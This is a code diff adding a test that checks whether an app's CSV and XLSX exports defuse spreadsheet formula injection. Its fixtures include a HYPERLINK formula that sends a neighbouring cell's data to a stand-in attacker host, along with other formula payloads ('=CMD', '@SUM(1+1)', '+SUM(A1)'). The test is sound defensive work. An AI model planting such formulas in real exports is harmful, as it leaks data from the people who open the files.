@@ -296,3 +296,43 @@ def test_every_other_table_downloads_too(app):
         == "step,sessions,step_conversion,overall_conversion,drop_off"
     )
     assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog)) == 3
+
+
+def test_exports_carry_no_formula_a_spreadsheet_would_run(app, tmp_path):
+    import base64
+    import csv as csv_module
+    import io
+
+    import openpyxl
+
+    from app.dash_apps.exports import csv_text, xlsx_bytes
+
+    attack = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    CampaignFactory(name=attack, code="=CMD")
+    buyer = CustomerFactory(external_id="@SUM(1+1)", email="victim@example.com")
+    OrderFactory(customer=buyer, subtotal=1_000)
+    refresh()
+    context = as_user(app, "manager")
+    try:
+        campaigns_csv = campaigns.export_campaigns(1, None, "all")["content"]
+        customers_xlsx = customers.export_list("top", "xlsx")["content"]
+    finally:
+        context.pop()
+    row = next(csv_module.reader(io.StringIO(campaigns_csv.splitlines()[1])))
+    assert row[1] == "'" + attack and row[2] == "'=CMD"
+    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(customers_xlsx))).active
+    ids = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert "@SUM(1+1)" in ids
+    cell = next(c for c in sheet["A"] if c.value == "@SUM(1+1)")
+    assert cell.data_type == "s"  # text, not a formula
+    # Both writers on every kind of text, and negative numbers kept as numbers in CSV:
+    path = tmp_path / "t.xlsx"
+    path.write_bytes(xlsx_bytes(["a", "b"], [["=1+2", "-12.50"], ["+SUM(A1)", "http://x"]]))
+    cells = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
+    assert all(c.data_type == "s" for c in cells) and cells[2].value == "=1+2"
+    assert csv_text(["a"], [["-12.50"], ["-cmd"], ["+1"]]).splitlines() == [
+        "a",
+        "-12.50",
+        "'-cmd",
+        "'+1",
+    ]
